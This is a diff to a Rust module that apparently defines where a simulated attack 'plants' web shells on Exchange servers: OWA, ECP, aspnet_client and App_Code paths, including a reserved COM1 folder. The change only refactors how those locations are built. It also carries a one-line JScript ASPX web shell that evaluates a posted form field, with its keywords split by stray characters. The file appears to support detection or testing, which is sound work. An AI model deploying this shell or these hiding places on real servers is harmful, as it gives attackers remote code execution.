@@ -1,34 +1,26 @@
 //! What the sealed set plants: places, texts that hide, and places that hide.
 
+use crate::attack::Place;
 use crate::attack::odd_page::OddPage;
-use crate::attack::{Below, Place};
 use crate::moment::Moment;
 use crate::server::Encoding;
 use crate::technique::Technique;
 
-const fn product(folder: &'static str, url: &'static str, protocol: &'static str) -> Place {
-    Place { below: Below::Product, folder, url, protocol: Some(protocol) }
-}
-
-const fn site(folder: &'static str, url: &'static str) -> Place {
-    Place { below: Below::Site, folder, url, protocol: None }
-}
-
-pub(super) const SIGN_IN: Place = product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
-pub(super) const ADMIN_AUTH: Place = product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
-pub(super) const CLIENT: Place = site("aspnet_client", "/aspnet_client");
+pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
+pub(super) const ADMIN_AUTH: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
+pub(super) const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
 pub(super) const CURRENT: Place =
-    product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes", "/owa/auth/Current/themes", "Owa");
-const PREMIUM: Place = product(
+    Place::product("FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes", "/owa/auth/Current/themes", "Owa");
+const PREMIUM: Place = Place::product(
     "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2044\\scripts\\premium",
     "/owa/auth/15.1.2044/scripts/premium",
     "Owa",
 );
-const CALENDAR: Place = product("FrontEnd\\HttpProxy\\owa\\Calendar", "/owa/Calendar", "Owa");
-const POWERSHELL: Place = product("FrontEnd\\HttpProxy\\PowerShell", "/PowerShell", "PowerShell");
-const RESERVED: Place = site("aspnet_client\\COM1", "/aspnet_client/COM1");
-const PICTURES: Place = site("aspnet_client\\gallery", "/aspnet_client/gallery");
-const APP_CODE: Place = site("App_Code", "/App_Code");
+const CALENDAR: Place = Place::product("FrontEnd\\HttpProxy\\owa\\Calendar", "/owa/Calendar", "Owa");
+const POWERSHELL: Place = Place::product("FrontEnd\\HttpProxy\\PowerShell", "/PowerShell", "PowerShell");
+const RESERVED: Place = Place::site("aspnet_client\\COM1", "/aspnet_client/COM1");
+const PICTURES: Place = Place::site("aspnet_client\\gallery", "/aspnet_client/gallery");
+const APP_CODE: Place = Place::site("App_Code", "/App_Code");
 
 /// The page that the address book's download writes.
 pub(super) const WRITTEN: &str = "<%@ Page Language=\"JSc¦ript\" Debug=\"false\"%><%var g=Req¦uest.Form[\"sb\"];if(g){var f=new Func¦tion(\"r\",g);f(Response);}%>\r\n";
